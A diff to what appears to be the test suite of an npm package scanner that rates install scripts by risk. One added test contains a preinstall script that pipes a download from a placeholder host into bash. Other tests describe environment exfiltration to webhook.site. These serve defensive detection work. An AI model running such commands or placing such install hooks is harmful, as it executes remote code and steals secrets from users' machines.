@@ -17,7 +17,7 @@ def test_a_postinstall_that_reads_the_environment_and_posts_it_to_a_webhook_is_c
         {
             "index.js": [],
             "bundle.js": [
-                (C.ENV_ALL, 3),
+                (C.ENV_ALL, 3, "serialised"),
                 (C.NETWORK, 9),
                 (C.EXFIL_ENDPOINT, 9, "webhook.site"),
             ],
@@ -30,7 +30,7 @@ def test_a_postinstall_that_reads_the_environment_and_posts_it_to_a_webhook_is_c
     assert verdict.summary.startswith(
         "adds a postinstall script (`node bundle.js`) that runs bundle.js, which "
     )
-    assert "reads the whole environment" in verdict.summary
+    assert "serialises the whole environment" in verdict.summary
     assert "contacts webhook.site" in verdict.summary
     assert verdict.reasons[0].file == "bundle.js"
 
@@ -183,3 +183,30 @@ def test_a_new_package_named_like_a_popular_one_that_runs_an_install_script_is_h
     # A look-alike name with a long release history is a real package (preact, through2).
     established = PackageMetadata(version_count=40, similar_to="react")
     assert judge("preact", None, "10.0.0", None, PLAIN, metadata=established).reasons == ()
+
+
+def test_the_environment_forwarded_to_a_child_and_writes_to_temp_do_not_weigh() -> None:
+    builder = profile(
+        {
+            "index.js": [],
+            "install.js": [(C.ENV_ALL, 3, "spread"), (C.FILE_WRITE, 5, "temp")],
+        },
+        {"install.js": Zone.INSTALL},
+        scripts={"postinstall": "node install.js"},
+    )
+    verdict = judge("pkg", "1.2.3", "1.2.4", PLAIN, builder)
+    assert [r.rule for r in verdict.reasons] == ["install-script"]
+    assert {s.capability for s in verdict.signals} == {C.ENV_ALL, C.FILE_WRITE}  # still shown
+    persistence = profile(
+        {"index.js": [], "install.js": [(C.FILE_WRITE, 5, "home")]},
+        {"install.js": Zone.INSTALL},
+        scripts={"postinstall": "node install.js"},
+    )
+    assert judge("pkg", "1.2.3", "1.2.4", PLAIN, persistence).severity is Severity.HIGH
+
+
+def test_a_script_that_pipes_a_download_into_a_shell_is_high_but_inline_node_is_analysed() -> None:
+    inline = profile({"index.js": []}, scripts={"postinstall": "node -e \"require('./x')\""})
+    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, inline).reasons[0].rule == "install-script"
+    piped = profile({"index.js": []}, scripts={"preinstall": "wget -qO- https://x.example | bash"})
+    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, piped).severity is Severity.HIGH
